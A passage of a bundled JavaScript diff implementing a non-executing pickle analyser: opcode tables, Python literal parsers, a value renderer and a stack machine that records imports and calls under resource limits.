+  TUPLE: 116,
+  // t
+  EMPTY_TUPLE: 41,
+  // )
+  SETITEMS: 117,
+  // u
+  BINFLOAT: 71,
+  // G
+  // protocol 2
+  PROTO: 128,
+  NEWOBJ: 129,
+  EXT1: 130,
+  EXT2: 131,
+  EXT4: 132,
+  TUPLE1: 133,
+  TUPLE2: 134,
+  TUPLE3: 135,
+  NEWTRUE: 136,
+  NEWFALSE: 137,
+  LONG1: 138,
+  LONG4: 139,
+  // protocol 3
+  BINBYTES: 66,
+  // B
+  SHORT_BINBYTES: 67,
+  // C
+  // protocol 4
+  SHORT_BINUNICODE: 140,
+  BINUNICODE8: 141,
+  BINBYTES8: 142,
+  EMPTY_SET: 143,
+  ADDITEMS: 144,
+  FROZENSET: 145,
+  NEWOBJ_EX: 146,
+  STACK_GLOBAL: 147,
+  MEMOIZE: 148,
+  FRAME: 149,
+  // protocol 5
+  BYTEARRAY8: 150,
+  NEXT_BUFFER: 151,
+  READONLY_BUFFER: 152
+};
+var OPCODE_NAMES = (() => {
+  const names = new Array(256).fill(void 0);
+  for (const [name2, code3] of Object.entries(OP)) names[code3] = name2;
+  return names;
+})();
+var HIGHEST_PROTOCOL = 5;
+
+// src/artifacts/pickle/decode.ts
+function latin12(bytes) {
+  let out2 = "";
+  const CHUNK = 8192;
+  for (let i2 = 0; i2 < bytes.length; i2 += CHUNK) {
+    out2 += String.fromCharCode.apply(null, bytes.subarray(i2, i2 + CHUNK));
+  }
+  return out2;
+}
+function digitValue(c) {
+  if (c >= 48 && c <= 57) return c - 48;
+  if (c >= 97 && c <= 122) return c - 87;
+  if (c >= 65 && c <= 90) return c - 55;
+  return 99;
+}
+function isSpace(c) {
+  return c === 32 || c >= 9 && c <= 13;
+}
+function parsePythonInt(text) {
+  let i2 = 0;
+  let end = text.length;
+  while (i2 < end && isSpace(text.charCodeAt(i2))) i2++;
+  while (end > i2 && isSpace(text.charCodeAt(end - 1))) end--;
+  let negative = false;
+  const sign = text.charCodeAt(i2);
+  if (sign === 43 || sign === 45) {
+    negative = sign === 45;
+    i2++;
+  }
+  let base = 10;
+  if (end - i2 > 2 && text.charCodeAt(i2) === 48) {
+    const p = text.charCodeAt(i2 + 1) | 32;
+    if (p === 120) base = 16;
+    else if (p === 111) base = 8;
+    else if (p === 98) base = 2;
+    if (base !== 10) {
+      i2 += 2;
+      if (text.charCodeAt(i2) === 95) i2++;
+    }
+  }
+  if (i2 >= end) return null;
+  let small = 0;
+  let big = null;
+  let prevUnderscore = true;
+  for (; i2 < end; i2++) {
+    const c = text.charCodeAt(i2);
+    if (c === 95) {
+      if (prevUnderscore) return null;
+      prevUnderscore = true;
+      continue;
+    }
+    const d = digitValue(c);
+    if (d >= base) return null;
+    prevUnderscore = false;
+    if (big === null) {
+      small = small * base + d;
+      if (small > Number.MAX_SAFE_INTEGER / 64) big = BigInt(small);
+    } else {
+      big = big * BigInt(base) + BigInt(d);
+    }
+  }
+  if (prevUnderscore) return null;
+  if (big === null) return negative ? -small : small;
+  const v = negative ? -big : big;
+  const n = Number(v);
+  return Number.isSafeInteger(n) ? n : v;
+}
+function parsePythonFloat(text) {
+  const t = text.trim().replace(/_/g, "").toLowerCase();
+  const body2 = t.startsWith("-") || t.startsWith("+") ? t.slice(1) : t;
+  const negative = t.startsWith("-");
+  if (body2 === "inf" || body2 === "infinity") return negative ? -Infinity : Infinity;
+  if (body2 === "nan") return NaN;
+  if (!/^(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/.test(body2)) return null;
+  const v = Number(body2);
+  return negative ? -v : v;
+}
+var SIMPLE_ESCAPES2 = {
+  92: 92,
+  39: 39,
+  34: 34,
+  97: 7,
+  98: 8,
+  102: 12,
+  110: 10,
+  114: 13,
+  116: 9,
+  118: 11
+};
+function decodeEscapedString(src) {
+  const out2 = new Uint8Array(src.length);
+  let n = 0;
+  for (let i2 = 0; i2 < src.length; i2++) {
+    const c = src[i2];
+    if (c !== 92) {
+      out2[n++] = c;
+      continue;
+    }
+    if (i2 + 1 >= src.length) return null;
+    const e = src[++i2];
+    const simple = SIMPLE_ESCAPES2[e];
+    if (simple !== void 0) {
+      out2[n++] = simple;
+    } else if (e === 10) {
+    } else if (e === 120) {
+      const hi = i2 + 1 < src.length ? digitValue(src[i2 + 1]) : 99;
+      const lo = i2 + 2 < src.length ? digitValue(src[i2 + 2]) : 99;
+      if (hi > 15 || lo > 15) return null;
+      out2[n++] = hi * 16 + lo;
+      i2 += 2;
+    } else if (e >= 48 && e <= 55) {
+      let v = e - 48;
+      for (let k = 0; k < 2 && i2 + 1 < src.length && src[i2 + 1] >= 48 && src[i2 + 1] <= 55; k++) {
+        v = v * 8 + (src[++i2] - 48);
+      }
+      out2[n++] = v & 255;
+    } else {
+      out2[n++] = 92;
+      out2[n++] = e;
+    }
+  }
+  return out2.subarray(0, n);
+}
+function decodeRawUnicodeEscape(src) {
+  let out2 = "";
+  let runStart = 0;
+  for (let i2 = 0; i2 < src.length; i2++) {
+    if (src[i2] !== 92 || i2 + 1 >= src.length) continue;
+    const kind = src[i2 + 1];
+    if (kind !== 117 && kind !== 85) continue;
+    let slashes = 0;
+    for (let j = i2; j >= runStart && src[j] === 92; j--) slashes++;
+    if (slashes % 2 === 0) continue;
+    const width = kind === 117 ? 4 : 8;
+    let cp = 0;
+    for (let k = 0; k < width; k++) {
+      const d = i2 + 2 + k < src.length ? digitValue(src[i2 + 2 + k]) : 99;
+      if (d > 15) return null;
+      cp = cp * 16 + d;
+    }
+    if (cp > 1114111) return null;
+    out2 += latin12(src.subarray(runStart, i2)) + String.fromCodePoint(cp);
+    i2 += 1 + width;
+    runStart = i2 + 1;
+  }
+  return out2 + latin12(src.subarray(runStart));
+}
+
+// src/artifacts/pickle/render.ts
+var MAX_DEPTH2 = 5;
+var MAX_ITEMS = 10;
+var MAX_TEXT = 60;
+var BUDGET = 400;
+function renderValue(v, names, budget = BUDGET) {
+  return render(v, names, 0, { left: budget });
+}
+function renderArgs(v, names) {
+  const b = { left: BUDGET };
+  if (v.k === "tuple") return renderItems(v.items, names, 0, b);
+  return "*" + render(v, names, 0, b);
+}
+function renderKwargs(v, names) {
+  const b = { left: BUDGET };
+  if (v.k !== "dict") return "**" + render(v, names, 0, b);
+  const parts2 = [];
+  for (let i2 = 0; i2 + 1 < v.items.length; i2 += 2) {
+    const key = v.items[i2];
+    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
+      parts2.push("...");
+      break;
+    }
+    const value = render(v.items[i2 + 1], names, 1, b);
+    parts2.push(key.k === "str" && isIdentifier(key.v) ? `${key.v}=${value}` : `**{${render(key, names, 1, b)}: ${value}}`);
+  }
+  return parts2.join(", ");
+}
+function render(v, names, depth, b) {
+  const out2 = renderRaw(v, names, depth, b);
+  b.left -= out2.length;
+  return out2;
+}
+function renderRaw(v, names, depth, b) {
+  switch (v.k) {
+    case "none":
+      return "None";
+    case "bool":
+      return v.v ? "True" : "False";
+    case "int":
+      return String(v.v);
+    case "hugeint":
+      return `int(<${v.digits} digits>)`;
+    case "float":
+      return pyFloat(v.v);
+    case "str":
+      return pyStr(v.v);
+    case "bytes":
+      return v.bytearray ? `bytearray(${pyBytes(v.v)})` : pyBytes(v.v);
+    case "global":
+      return names.importExpr(v.imp);
+    case "call":
+      return `_var${v.call}`;
+    case "persid":
+      return names.persidExpr(v.index);
+    case "buffer":
+      return v.readonly ? "memoryview(next_buffer()).toreadonly()" : "next_buffer()";
+    case "unknown":
+      return `<${v.what}>`;
+    default:
+      break;
+  }
+  if (depth >= MAX_DEPTH2 || b.left <= 0) return "...";
+  const items = renderItems(v.items, names, depth + 1, b, v.k === "dict");
+  switch (v.k) {
+    case "list":
+      return `[${items}]`;
+    case "tuple":
+      return v.items.length === 1 ? `(${items},)` : `(${items})`;
+    case "set":
+      return v.items.length === 0 ? "set()" : `{${items}}`;
+    case "frozenset":
+      return v.items.length === 0 ? "frozenset()" : `frozenset({${items}})`;
+    case "dict":
+      return `{${items}}`;
+  }
+}
+function renderItems(items, names, depth, b, pairs = false) {
+  const parts2 = [];
+  const step = pairs ? 2 : 1;
+  for (let i2 = 0; i2 < items.length; i2 += step) {
+    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
+      parts2.push("...");
+      break;
+    }
+    if (pairs) {
+      const key = render(items[i2], names, depth, b);
+      const value = i2 + 1 < items.length ? render(items[i2 + 1], names, depth, b) : "<missing>";
+      parts2.push(`${key}: ${value}`);
+    } else {
+      parts2.push(render(items[i2], names, depth, b));
+    }
+  }
+  return parts2.join(", ");
+}
+function isIdentifier(s) {
+  if (s.length === 0 || s.length > 100) return false;
+  for (let i2 = 0; i2 < s.length; i2++) {
+    const c = s.charCodeAt(i2);
+    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
+    if (!letter && !(i2 > 0 && c >= 48 && c <= 57)) return false;
+  }
+  return true;
+}
+function pyFloat(x) {
+  if (Number.isNaN(x)) return "float('nan')";
+  if (!Number.isFinite(x)) return x > 0 ? "float('inf')" : "float('-inf')";
+  const s = String(x);
+  return /[.e]/.test(s) ? s : `${s}.0`;
+}
+function hex2(c) {
+  return c.toString(16).padStart(2, "0");
+}
+function pyStr(s) {
+  let out2 = "'";
+  const n = Math.min(s.length, MAX_TEXT);
+  for (let i2 = 0; i2 < n; i2++) {
+    const c = s.charCodeAt(i2);
+    if (c === 39) out2 += "\\'";
+    else if (c === 92) out2 += "\\\\";
+    else if (c === 10) out2 += "\\n";
+    else if (c === 13) out2 += "\\r";
+    else if (c === 9) out2 += "\\t";
+    else if (c < 32 || c >= 127 && c < 160) out2 += "\\x" + hex2(c);
+    else out2 += s[i2];
+  }
+  out2 += "'";
+  return s.length > MAX_TEXT ? `${out2}...<${s.length} chars>` : out2;
+}
+function pyBytes(bytes) {
+  let out2 = "b'";
+  const n = Math.min(bytes.length, MAX_TEXT);
+  for (let i2 = 0; i2 < n; i2++) {
+    const c = bytes[i2];
+    if (c === 39) out2 += "\\'";
+    else if (c === 92) out2 += "\\\\";
+    else if (c === 10) out2 += "\\n";
+    else if (c === 13) out2 += "\\r";
+    else if (c === 9) out2 += "\\t";
+    else if (c < 32 || c >= 127) out2 += "\\x" + hex2(c);
+    else out2 += String.fromCharCode(c);
+  }
+  out2 += "'";
+  return bytes.length > MAX_TEXT ? `${out2}...<${bytes.length} bytes>` : out2;
+}
+
+// src/artifacts/pickle/values.ts
+var NONE = { k: "none" };
+var TRUE = { k: "bool", v: true };
+var FALSE = { k: "bool", v: false };
+function isContainer(v) {
+  return v.k === "list" || v.k === "tuple" || v.k === "set" || v.k === "frozenset" || v.k === "dict";
+}
+
+// src/artifacts/pickle/vm.ts
+var PickleError = class extends Error {
+  constructor(message15, offset, kind = "invalid") {
+    super(message15);
+    this.offset = offset;
+    this.kind = kind;
+  }
+  offset;
+  kind;
+  get limit() {
+    return this.kind === "limit";
+  }
+};
+var utf8Strict = new TextDecoder("utf-8", { fatal: true });
+var utf8Lenient = new TextDecoder("utf-8");
+var MAX_EXACT_LONG_BYTES = 64;
+var MAX_EXACT_LONG_DIGITS = 400;
+var ARG_SCAN_PER_CALL = 2e4;
+var ARG_SCAN_TOTAL = 2e6;
+var MAX_STATEMENTS = 1e4;
+var DENSE_MEMO_LIMIT = 1 << 16;
+var BASE64_DECODERS = /* @__PURE__ */ new Set([
+  "base64.b64decode",
+  "base64.standard_b64decode",
+  "base64.urlsafe_b64decode",
+  "base64.decodebytes",
+  "base64.decodestring",
+  "binascii.a2b_base64"
+]);
+var BYTES_WRAPPERS = /* @__PURE__ */ new Set(["io.BytesIO", "_io.BytesIO", "builtins.bytes", "builtins.bytearray"]);
+function runMachine(bytes, options) {
+  return new Machine(bytes, options).run();
+}
+var Machine = class {
+  constructor(bytes, o) {
+    this.bytes = bytes;
+    this.o = o;
+    this.view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+    this.a = {
+      isPickle: false,
+      protocol: null,
+      streams: 0,
+      opcodeCount: 0,
+      bytesConsumed: 0,
+      imports: [],
+      calls: [],
+      persistentIds: [],
+      issues: [],
+      nested: [],
+      statements: this.statements
+    };
+    this.t = {
+      analysis: this.a,
+      importUsedAt: [],
+      importCalledAt: [],
+      importNormalized: [],
+      callCallee: [],
+      mutations: [],
+      unsafeClassArgs: [],
+      argScanExhausted: false,
+      stoppedBy: void 0
+    };
+  }
+  bytes;
+  o;
+  view;
+  pos = 0;
+  opStart = 0;
+  proto = 0;
+  stack = [];
+  /** Stack lengths at each MARK; items below the top mark are fenced off, as in CPython. */
+  marks = [];
+  /** The memo: small indices (the normal case) in an array, the rest in a map. */
+  memoDense = [];
+  memoSparse = /* @__PURE__ */ new Map();
+  memoSize = 0;
+  frameEnd = -1;
+  frameProblem;
+  argScanLeft = ARG_SCAN_TOTAL;
+  importExprs = [];
+  importBindings = /* @__PURE__ */ new Map();
+  usedBindings = /* @__PURE__ */ new Set();
+  persidExprs = [];
+  callArgs = [];
+  a;
+  t;
+  statements = [];
+  run() {
+    const a = this.a;
+    while (this.pos < this.bytes.length) {
+      const checkpoint = this.checkpoint();
+      this.resetStream();
+      try {
+        this.runStream();
+        a.streams++;
+        a.bytesConsumed = this.pos;
+        a.isPickle = true;
+      } catch (e) {
+        if (!(e instanceof PickleError)) throw e;
+        const sawCode = this.sawCodeSince(checkpoint.imports, checkpoint.calls);
+        if (a.streams === 0) {
+          this.t.stoppedBy = e.kind;
+          if (sawCode || a.protocol !== null) a.isPickle = true;
+          if (a.isPickle) this.fail(e);
+        } else if (sawCode || e.limit) {
+          this.fail(e);
+        } else {
+          this.rollback(checkpoint);
+        }
+        break;
+      }
+    }
+    if (!a.isPickle) return this.notAPickle();
+    if (a.error === void 0 && this.frameProblem !== void 0) a.error = this.frameProblem;
+    return this.t;
+  }
+  /**
+   * Whether a failed stream referenced code. Text that happens to start with `c` or `i` reads as a
+   * GLOBAL/INST of a nonsense name; only names that could be Python modules count.
+   */
+  sawCodeSince(imports, calls) {
+    if (this.a.calls.length > calls) return true;
+    for (let i2 = imports; i2 < this.a.imports.length; i2++) {
+      const imp = this.a.imports[i2];
+      if (imp.dynamic || imp.opcode.startsWith("EXT") || isDottedName(imp.module) && isDottedName(imp.name)) return true;
+    }
+    return false;
+  }
+  frameIssue(message15) {
+    if (this.frameProblem === void 0) this.frameProblem = { message: message15, offset: this.opStart };
+  }
+  fail(e) {
+    this.a.error = { message: e.message, offset: e.offset };
+    this.t.stoppedBy = e.kind;
+  }
+  notAPickle() {
+    const a = this.a;
+    a.imports.length = 0;
+    a.calls.length = 0;
+    a.persistentIds.length = 0;
+    a.nested.length = 0;
+    this.statements.length = 0;
+    a.protocol = null;
+    a.bytesConsumed = 0;
+    this.t.importUsedAt.length = 0;
+    this.t.importCalledAt.length = 0;
+    this.t.importNormalized.length = 0;
+    this.t.callCallee.length = 0;
+    this.t.mutations.length = 0;
+    this.t.unsafeClassArgs.length = 0;
+    return this.t;
+  }
+  checkpoint() {
+    const a = this.a;
+    return {
+      imports: a.imports.length,
+      calls: a.calls.length,
+      persids: a.persistentIds.length,
+      nested: a.nested.length,
+      statements: this.statements.length,
+      mutations: this.t.mutations.length,
+      unsafe: this.t.unsafeClassArgs.length,
+      protocol: a.protocol,
+      opcodes: a.opcodeCount
+    };
+  }
+  rollback(c) {
+    const a = this.a;
+    a.imports.length = c.imports;
+    a.calls.length = c.calls;
+    a.persistentIds.length = c.persids;
+    a.nested.length = c.nested;
+    this.statements.length = c.statements;
+    this.t.mutations.length = c.mutations;
+    this.t.unsafeClassArgs.length = c.unsafe;
+    this.t.importUsedAt.length = c.imports;
+    this.t.importCalledAt.length = c.imports;
+    this.t.importNormalized.length = c.imports;
+    this.t.callCallee.length = c.calls;
+    this.importExprs.length = c.imports;
+    this.callArgs.length = c.calls;
+    a.protocol = c.protocol;
+    a.opcodeCount = c.opcodes;
+  }
+  resetStream() {
+    this.stack = [];
+    this.marks = [];
+    this.memoDense = [];
+    this.memoSparse = /* @__PURE__ */ new Map();
+    this.memoSize = 0;
+    this.proto = 0;
+    this.frameEnd = -1;
+  }
+  // ---- RenderNames ----
+  importExpr(imp) {
+    return this.importExprs[imp] ?? "<global>";
+  }
+  persidExpr(index) {
+    return this.persidExprs[index] ?? "persistent_load(...)";
+  }
+  // ---- byte readers ----
+  need(n) {
+    if (n > this.bytes.length - this.pos) {
+      throw new PickleError(`pickle data was truncated (need ${n} bytes)`, this.opStart, "truncated");
+    }
+  }
+  u8() {
+    this.need(1);
+    return this.bytes[this.pos++];
+  }
+  u16() {
+    this.need(2);
+    const v = this.view.getUint16(this.pos, true);
+    this.pos += 2;
+    return v;
+  }
+  i32() {
+    this.need(4);
+    const v = this.view.getInt32(this.pos, true);
+    this.pos += 4;
+    return v;
+  }
+  u32() {
+    this.need(4);
+    const v = this.view.getUint32(this.pos, true);
+    this.pos += 4;
+    return v;
+  }
+  u64() {
+    this.need(8);
+    const lo = this.view.getUint32(this.pos, true);
+    const hi = this.view.getUint32(this.pos + 4, true);
+    this.pos += 8;
+    if (hi >= 2097152) throw new PickleError("length field exceeds 2**53", this.opStart);
+    return hi * 4294967296 + lo;
+  }
+  take(n) {
+    this.need(n);
+    const out2 = this.bytes.subarray(this.pos, this.pos + n);
+    this.pos += n;
+    return out2;
+  }
+  /** Bytes up to (excluding) the next newline; the newline is consumed. */
+  line() {
+    const b = this.bytes;
+    const start2 = this.pos;
+    let i2 = start2;
+    while (i2 < b.length && b[i2] !== 10) i2++;
+    if (i2 >= b.length) throw new PickleError("pickle data was truncated (no newline)", this.opStart, "truncated");
+    this.pos = i2 + 1;
+    return b.subarray(start2, i2);
+  }
+  utf8Line(what) {
+    try {
+      return utf8Strict.decode(this.line());
+    } catch (e) {
+      if (e instanceof PickleError) throw e;
+      throw new PickleError(`${what} is not valid UTF-8`, this.opStart);
+    }
+  }
+  asciiLine(what) {
+    const l = this.line();
+    for (let i2 = 0; i2 < l.length; i2++) {
+      if (l[i2] >= 128) throw new PickleError(`${what} must be ASCII`, this.opStart);
+    }
+    return latin12(l);
+  }
+  decimalLine(what) {
+    const v = parsePythonInt(this.asciiLine(what));
+    if (v === null || typeof v === "bigint") throw new PickleError(`invalid ${what}`, this.opStart);
+    return v;
+  }
+  // ---- stack helpers ----
+  push(v) {
+    if (this.stack.length >= this.o.limits.maxStackDepth) {
+      throw new PickleError(`stack depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
+    }
+    this.stack.push(v);
+  }
+  fence() {
+    return this.marks.length > 0 ? this.marks[this.marks.length - 1] : 0;
+  }
+  pop() {
+    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
+    return this.stack.pop();
+  }
+  top() {
+    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
+    return this.stack[this.stack.length - 1];
+  }
+  popMark() {
+    if (this.marks.length === 0) throw new PickleError("could not find MARK", this.opStart);
+    const at = this.marks.pop();
+    return this.stack.splice(at);
+  }
+  memoPut(index, v) {
+    const dense = index < DENSE_MEMO_LIMIT;
+    const present = dense ? this.memoDense[index] !== void 0 : this.memoSparse.has(index);
+    if (!present) {
+      if (this.memoSize >= this.o.limits.maxMemoEntries) {
+        throw new PickleError(`memo size limit (${this.o.limits.maxMemoEntries}) reached`, this.opStart, "limit");
+      }
+      this.memoSize++;
+    }
+    if (!dense) this.memoSparse.set(index, v);
+    else {
+      while (this.memoDense.length < index) this.memoDense.push(void 0);
+      this.memoDense[index] = v;
+    }
+  }
+  memoGet(index) {
+    const v = index < DENSE_MEMO_LIMIT ? this.memoDense[index] : this.memoSparse.get(index);
+    if (v === void 0) throw new PickleError(`memo value not found at index ${index}`, this.opStart);
+    return v;
+  }
+  // ---- the machine ----
+  runStream() {
+    const b = this.bytes;
+    const limits = this.o.limits;
+    const budget = this.o.budget;
+    const a = this.a;
+    for (; ; ) {
+      if (this.frameEnd >= 0 && this.pos >= this.frameEnd) this.frameEnd = -1;
+      this.opStart = this.pos;
+      if (this.pos >= b.length) throw new PickleError("pickle data was truncated (no STOP)", this.pos, "truncated");
+      if (a.opcodeCount >= limits.maxOpcodes || budget.opcodes <= 0) {
+        throw new PickleError(`opcode limit (${limits.maxOpcodes}) reached`, this.pos, "limit");
+      }
+      a.opcodeCount++;
+      budget.opcodes--;
+      const op = b[this.pos++];
+      if (this.step(op)) return;
+      if (this.frameEnd >= 0 && this.pos > this.frameEnd) {
+        this.frameIssue("opcode crosses the end of its FRAME (frame length mismatch)");
+      }
+    }
+  }
+  /** Executes one opcode; returns true on STOP. */
+  step(op) {
+    switch (op) {
+      case 128: {
+        const p = this.u8();
+        if (this.a.protocol === null || p > this.a.protocol) this.a.protocol = p;
+        if (p > HIGHEST_PROTOCOL) throw new PickleError(`unsupported pickle protocol: ${p}`, this.opStart);
+        this.proto = p;
+        return false;
+      }
+      case 149: {
+        this.need(8);
+        const n = this.view.getUint32(this.pos, true) + this.view.getUint32(this.pos + 4, true) * 4294967296;
+        this.pos += 8;
+        const remaining = this.bytes.length - this.pos;
+        if (this.frameEnd >= 0 && this.opStart < this.frameEnd) {
+          this.frameIssue("beginning of a new frame before end of current frame");
+        }
+        if (n > remaining) {
+          this.frameIssue(`FRAME length ${n} exceeds the remaining ${remaining} bytes`);
+          this.frameEnd = -1;
+        } else {
+          this.frameEnd = this.pos + n;
+        }
+        return false;
+      }
+      case 46:
+        this.finishStream(this.pop());
+        return true;
+      case 40:
+        if (this.marks.length >= this.o.limits.maxStackDepth) {
+          throw new PickleError(`MARK depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
+        }
+        this.marks.push(this.stack.length);
+        return false;
+      case 48:
+        if (this.marks.length > 0 && this.stack.length === this.fence()) this.marks.pop();
+        else this.pop();
+        return false;
+      case 49:
+        this.popMark();
+        return false;
+      case 50:
+        this.push(this.top());
+        return false;
+      // ---- constants ----
+      case 78:
+        this.push(NONE);
+        return false;
+      case 136:
+        this.push(TRUE);
+        return false;
+      case 137:
+        this.push(FALSE);
+        return false;
+      case 73: {
+        const text = this.asciiLine("INT argument");
+        if (text === "00") this.push(FALSE);
+        else if (text === "01") this.push(TRUE);
+        else this.push(this.intValue(text, "INT"));
+        return false;
+      }
+      case 76: {
+        let text = this.asciiLine("LONG argument");
+        if (text.endsWith("L")) text = text.slice(0, -1);
+        this.push(this.intValue(text, "LONG"));
+        return false;
+      }
+      case 74:
+        this.push({ k: "int", v: this.i32() });
+        return false;
+      case 75:
+        this.push({ k: "int", v: this.u8() });
+        return false;
+      case 77:
+        this.push({ k: "int", v: this.u16() });
+        return false;
+      case 138:
+        this.push(this.longValue(this.u8()));
+        return false;
+      case 139: {
+        const n = this.i32();
+        if (n < 0) throw new PickleError("LONG pickle has negative byte count", this.opStart);
+        this.push(this.longValue(n));
+        return false;
+      }
+      case 70: {
+        const v = parsePythonFloat(this.asciiLine("FLOAT argument"));
+        if (v === null) throw new PickleError("invalid FLOAT argument", this.opStart);
+        this.push({ k: "float", v });
+        return false;
+      }
+      case 71: {
+        this.need(8);
+        const v = this.view.getFloat64(this.pos, false);
+        this.pos += 8;
+        this.push({ k: "float", v });
+        return false;
+      }
+      case 83: {
+        const l = this.line();
+        const q = l[0];
+        if (l.length < 2 || q !== 34 && q !== 39 || l[l.length - 1] !== q) {
+          throw new PickleError("the STRING opcode argument must be quoted", this.opStart);
+        }
+        const decoded = decodeEscapedString(l.subarray(1, l.length - 1));
+        if (decoded === null) throw new PickleError("invalid escape in STRING argument", this.opStart);
+        this.push({ k: "str", v: latin12(decoded) });
+        return false;
+      }
+      case 84: {
+        const n = this.i32();
+        if (n < 0) throw new PickleError("BINSTRING pickle has negative byte count", this.opStart);
+        this.push({ k: "str", v: latin12(this.take(n)) });
+        return false;
+      }
+      case 85:
+        this.push({ k: "str", v: latin12(this.take(this.u8())) });
+        return false;
+      case 86: {
+        const s = decodeRawUnicodeEscape(this.line());
+        if (s === null) throw new PickleError("invalid raw-unicode-escape in UNICODE argument", this.opStart);
+        this.push({ k: "str", v: s });
+        return false;
+      }
+      case 88:
+        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u32())) });
+        return false;
+      case 140:
+        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u8())) });
+        return false;
+      case 141:
+        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u64())) });
+        return false;
+      case 66:
+        this.push({ k: "bytes", v: this.take(this.u32()), bytearray: false });
+        return false;
+      case 67:
+        this.push({ k: "bytes", v: this.take(this.u8()), bytearray: false });
+        return false;
+      case 142:
+        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: false });
+        return false;
+      case 150:
+        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: true });
+        return false;
+      case 151:
+        this.push({ k: "buffer", readonly: false });
+        return false;
+      case 152: {
+        const v = this.pop();
+        this.push(v.k === "buffer" ? { k: "buffer", readonly: true } : v);
+        return false;
+      }
+      // ---- containers ----
+      case 93:
+        this.push({ k: "list", items: [] });
+        return false;
+      case 41:
+        this.push({ k: "tuple", items: [] });
+        return false;
+      case 125:
+        this.push({ k: "dict", items: [] });
+        return false;
+      case 143:
+        this.push({ k: "set", items: [] });
+        return false;
+      case 108:
+        this.push({ k: "list", items: this.popMark() });
+        return false;
+      case 116:
+        this.push({ k: "tuple", items: this.popMark() });
+        return false;
+      case 145:
+        this.push({ k: "frozenset", items: this.popMark() });
+        return false;
+      case 100: {
+        const items = this.popMark();
+        if (items.length % 2 !== 0) throw new PickleError("odd number of items for DICT", this.opStart);
+        this.push({ k: "dict", items });
+        return false;
+      }
+      case 133: {
+        const x = this.pop();
+        this.push({ k: "tuple", items: [x] });
+        return false;
+      }
+      case 134: {
+        const y = this.pop();
+        const x = this.pop();
+        this.push({ k: "tuple", items: [x, y] });
+        return false;
+      }
+      case 135: {
+        const z = this.pop();
+        const y = this.pop();
+        const x = this.pop();
+        this.push({ k: "tuple", items: [x, y, z] });
+        return false;
+      }
+      case 97: {
+        const v = this.pop();
+        this.addItems(this.top(), [v], "append");
+        return false;
+      }
+      case 101: {
+        const items = this.popMark();
+        this.addItems(this.top(), items, "extend");
+        return false;
+      }
+      case 144: {
+        const items = this.popMark();
+        this.addItems(this.top(), items, "add");
+        return false;
+      }
+      case 115: {
+        const v = this.pop();
+        const k = this.pop();
+        this.setItems(this.top(), [k, v]);
+        return false;
+      }
+      case 117: {
+        const items = this.popMark();
+        if (items.length % 2 !== 0) throw new PickleError("odd number of items for SETITEMS", this.opStart);
+        this.setItems(this.top(), items);
+        return false;
+      }
+      // ---- memo ----
+      case 112: {
+        const i2 = this.decimalLine("PUT argument");
+        if (i2 < 0) throw new PickleError("negative PUT argument", this.opStart);
+        this.memoPut(i2, this.top());
+        return false;
+      }
+      case 113:
+        this.memoPut(this.u8(), this.top());
+        return false;
+      case 114:
+        this.memoPut(this.u32(), this.top());
+        return false;
+      case 148:
+        this.memoPut(this.memoSize, this.top());
+        return false;
+      case 103:
+        this.push(this.memoGet(this.decimalLine("GET argument")));
+        return false;
+      case 104:
+        this.push(this.memoGet(this.u8()));
+        return false;
+      case 106:
+        this.push(this.memoGet(this.u32()));
+        return false;
+      // ---- globals, calls, persistence ----
+      case 99: {
+        const module2 = this.utf8Line("GLOBAL module");
+        const name2 = this.utf8Line("GLOBAL name");
+        this.push({ k: "global", imp: this.addImport(module2, name2, "GLOBAL", false) });
+        return false;
+      }
+      case 147: {
+        const name2 = this.pop();
+        const module2 = this.pop();
+        if (module2.k === "str" && name2.k === "str") {
+          this.push({ k: "global", imp: this.addImport(module2.v, name2.v, "STACK_GLOBAL", false) });
+        } else {
+          const m = renderValue(module2, this, 80);
+          const n = renderValue(name2, this, 80);
+          this.push({ k: "global", imp: this.addImport(m, n, "STACK_GLOBAL", true) });
+        }
+        return false;
+      }
+      case 105: {
+        const module2 = this.utf8Line("INST module");
+        const name2 = this.utf8Line("INST name");
+        const imp = this.addImport(module2, name2, "INST", false);
+        const args2 = this.popMark();
+        this.call("INST", { k: "global", imp }, { k: "tuple", items: args2 });
+        return false;
+      }
+      case 130:
+        this.extension(this.u8());
+        return false;
+      case 131:
+        this.extension(this.u16());
+        return false;
+      case 132:
+        this.extension(this.i32());
+        return false;
+      case 82: {
+        const args2 = this.pop();
+        const callee = this.pop();
+        this.call("REDUCE", callee, args2);
+        return false;
+      }
+      case 129: {
+        const args2 = this.pop();
+        const cls = this.pop();
+        this.call("NEWOBJ", cls, args2);
+        return false;
+      }
+      case 146: {
+        const kwargs = this.pop();
+        const args2 = this.pop();
+        const cls = this.pop();
+        this.call("NEWOBJ_EX", cls, args2, kwargs);
+        return false;
+      }
+      case 111: {
+        const items = this.popMark();
+        if (items.length === 0) throw new PickleError("OBJ without a class", this.opStart);
+        this.call("OBJ", items[0], { k: "tuple", items: items.slice(1) });
+        return false;
+      }
+      case 98: {
+        const state = this.pop();
+        this.build(this.top(), state);
+        return false;
+      }
+      case 80:
+        this.persistent(latin12(this.asciiPersid()));
+        return false;
+      case 81: {
+        const pid = this.pop();
+        this.persistent(renderValue(pid, this), pid);
+        return false;
+      }
+      default:
+        throw new PickleError(`invalid opcode 0x${op.toString(16).padStart(2, "0")}`, this.opStart);
+    }
+  }
+  asciiPersid() {
+    const l = this.line();
+    for (let i2 = 0; i2 < l.length; i2++) {
+      if (l[i2] >= 128) throw new PickleError("persistent IDs in protocol 0 must be ASCII strings", this.opStart);
+    }
+    return l;
+  }
+  intValue(text, what) {
+    if (text.length > MAX_EXACT_LONG_DIGITS) {
+      if (parsePythonInt(text.slice(0, 40)) === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
+      return { k: "hugeint", digits: text.length };
+    }
